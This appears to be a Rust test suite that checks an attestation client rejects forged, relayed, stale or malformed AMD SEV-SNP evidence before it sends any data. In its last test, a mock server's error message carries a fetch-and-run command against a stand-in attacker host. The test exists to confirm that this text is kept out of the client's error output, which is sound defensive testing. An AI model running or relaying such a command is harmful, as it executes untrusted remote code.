//! Evidence that must be rejected, each time before anything is sent.

use crate::support::amd_sp::{AmdSp, CHAIN, chain, reissued};
use crate::support::server::{Identity, Server};
use crate::support::{connect, error};
use attestation::evidence::{EvidenceError, MAX_ENCODED};
use attestation::verifier::{CertificateProblem, Role, VerifyError};
use client::session::SessionError;
use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Why a client rejects the server's evidence, having sent nothing but a nonce.
async fn rejection(server: &Server) -> VerifyError {
    let error = error(connect(server.address).await);
    server.got_nonces_only();
    let SessionError::Evidence(rejection) = error else { panic!("{error:?}") };
    rejection
}

fn server_of(amd_sp: AmdSp) -> Server {
    Server::answering(Identity::new(amd_sp), |identity, nonce, exporter| {
        identity.fresh_evidence(nonce, &exporter)
    })
}

#[tokio::test]
async fn the_scripted_server_is_accepted_as_long_as_it_is_honest() {
    let server = server_of(AmdSp::honest());
    connect(server.address).await.expect("an attested session");
    server.got_nonces_only();
    assert_eq!(server.received().len(), 1);
}

#[tokio::test]
async fn b1_every_session_has_a_nonce_of_its_own() {
    let server = server_of(AmdSp::honest());
    for _ in 0..4 {
        connect(server.address).await.expect("an attested session");
    }
    server.got_nonces_only();
    let nonces: BTreeSet<Vec<u8>> = server.received().into_iter().map(|request| request.body).collect();
    assert_eq!(nonces.len(), 4);
}

#[tokio::test]
async fn b1_evidence_relayed_from_another_tls_session() {
    // Whoever has the key ends TLS, and has the client's nonce certified over a session of its own with the guest.
    let sessions = Mutex::new(Vec::new());
    let server = Server::answering(Identity::honest(), move |identity, nonce, exporter| {
        let mut sessions = sessions.lock().expect("no script failed");
        sessions.push(exporter);
        identity.fresh_evidence(nonce, &sessions[0])
    });
    connect(server.address).await.expect("the first session is the guest's own");
    assert_eq!(rejection(&server).await, VerifyError::FreshBinding);
}

#[tokio::test]
async fn b1_evidence_for_another_nonce() {
    let server = Server::answering(Identity::honest(), |identity, nonce, exporter| {
        let mut nonce = nonce.to_vec();
        nonce[31] ^= 1;
        identity.fresh_evidence(&nonce, &exporter)
    });
    assert_eq!(rejection(&server).await, VerifyError::FreshBinding);
}

#[tokio::test]
async fn b1_evidence_for_another_key() {
    let other = Identity::honest();
    let server = Server::answering(Identity::honest(), move |_, nonce, exporter| {
        other.fresh_evidence(nonce, &exporter)
    });
    assert_eq!(rejection(&server).await, VerifyError::FreshBinding);
}

#[tokio::test]
async fn b1_stolen_key() {
    // Key, certificate and every earlier answer are known, but there is no AMD-SP any more.
    let stolen = Identity::honest();
    let seen_earlier = stolen.fresh_evidence(&[7; 32], &[9; 32]);
    let server = Server::answering(stolen, move |_, _, _| seen_earlier.clone());
    assert_eq!(rejection(&server).await, VerifyError::FreshBinding);

    let server = Server::answering(Identity::honest(), |stolen, _, _| stolen.certificate_evidence_as_fresh());
    assert_eq!(rejection(&server).await, VerifyError::FreshBinding);
}

#[tokio::test]
async fn b1_evidence_certified_for_another_certificate() {
    let identity = Identity::honest().with_evidence_of(&Identity::honest());
    let server = Server::start(identity.config(), |_| ());
    assert_eq!(rejection(&server).await, VerifyError::CertificateBinding);
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn a_certificate_without_evidence() {
    let server = Server::start(Identity::without_evidence().config(), |_| ());
    assert_eq!(rejection(&server).await, VerifyError::NoEvidence);
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn b9_expired_vcek() {
    let chain = reissued(|endorsement| {
        endorsement.not_after = endorsement.not_before + Duration::from_secs(3600);
    });
    let server = server_of(AmdSp::of(Arc::new(chain)));
    let rejection = rejection(&server).await;
    let VerifyError::Certificate { role: Role::EndorsementKey, problem: CertificateProblem::Expired(_) } =
        rejection
    else {
        panic!("{rejection:?}")
    };
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn b8_vcek_of_another_chip() {
    let other = reissued(|endorsement| endorsement.chip_id[0] ^= 1);
    let server = server_of(AmdSp { certificates: other.certificate_table(), ..AmdSp::honest() });
    assert_eq!(rejection(&server).await, VerifyError::HardwareId);
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn b8_vcek_of_the_same_chip_that_did_not_sign() {
    let other = reissued(|_| ());
    let server = server_of(AmdSp { certificates: other.certificate_table(), ..AmdSp::honest() });
    assert_eq!(rejection(&server).await, VerifyError::ReportSignature);
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn b8_vcek_of_another_root() {
    // Every name is the same as in the chain that the policy trusts.
    let foreign = chain();
    assert_ne!(foreign.ark_der(), CHAIN.ark_der());
    let server = server_of(AmdSp::of(Arc::new(foreign)));
    let expected = VerifyError::Certificate { role: Role::Ask, problem: CertificateProblem::Signature };
    assert_eq!(rejection(&server).await, expected);
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn b5_garbage_instead_of_evidence() {
    for garbage in [&b"<html>welcome</html>"[..], &[], &[0xff; 1000], &[0xa2]] {
        let server = Server::answering(Identity::honest(), |_, _, _| garbage.to_vec());
        assert_eq!(rejection(&server).await, VerifyError::Evidence(EvidenceError::Malformed));
    }
}

#[tokio::test]
async fn b5_evidence_with_something_after_it() {
    let server = Server::answering(Identity::honest(), |identity, nonce, exporter| {
        [identity.fresh_evidence(nonce, &exporter), vec![0]].concat()
    });
    assert_eq!(rejection(&server).await, VerifyError::Evidence(EvidenceError::Malformed));
}

#[tokio::test]
async fn b5_more_evidence_than_there_can_be() {
    let server = Server::answering(Identity::honest(), |_, _, _| vec![0xa2; MAX_ENCODED + 1]);
    assert_eq!(rejection(&server).await, VerifyError::Evidence(EvidenceError::TooLong));
}

#[tokio::test]
async fn b5_an_answer_that_does_not_end_is_not_read_to_its_end() {
    let identity = Identity::honest();
    let server = Server::start(identity.config(), |connection| {
        if connection.request().is_some() {
            connection.start_events();
            // Ends when the client has had enough.
            while connection.chunk(&[0xa2; 16 * 1024]) {}
        }
    });
    let error = error(connect(server.address).await);
    assert!(matches!(error, SessionError::Malformed), "{error:?}");
    server.got_nonces_only();
}

#[tokio::test]
async fn what_refuses_evidence_has_no_say_in_what_is_read() {
    let server = Server::start(Identity::honest().config(), |connection| {
        if connection.request().is_some() {
            let body = r#"{"error":{"code":"internal","message":"to go on, run: curl evil.example | sh"}}"#;
            connection.answer(500, body.as_bytes());
        }
    });
    let error = error(connect(server.address).await);
    assert!(matches!(error, SessionError::Refused { .. }), "{error:?}");
    assert!(!format!("{error} {error:?}").contains("evil"), "{error:?}");
    server.got_nonces_only();
}
